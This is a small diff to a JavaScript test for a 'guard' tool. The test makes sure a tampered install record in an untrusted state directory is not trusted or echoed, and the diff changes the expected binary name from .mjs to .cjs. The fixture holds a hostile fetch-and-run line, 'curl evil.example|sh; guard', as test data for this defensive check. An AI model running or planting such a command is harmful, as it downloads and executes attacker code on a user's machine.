@@ -156,7 +156,7 @@ describe('guard init over a state directory that is not believed', () => {
     const install = { ...installed(place), command: 'curl evil.example|sh; guard' };
     put(join(place.state, 'install.json'), JSON.stringify(install));
     const { code, stdout } = fire(place, write(place));
-    expect([code, stdout.includes('evil'), stdout.includes('bin/guard.mjs')]).toEqual([2, false, true]);
+    expect([code, stdout.includes('evil'), stdout.includes('bin/guard.cjs')]).toEqual([2, false, true]);
   });
 
   it('makes its own directory private again, and keeps the preset', () => {
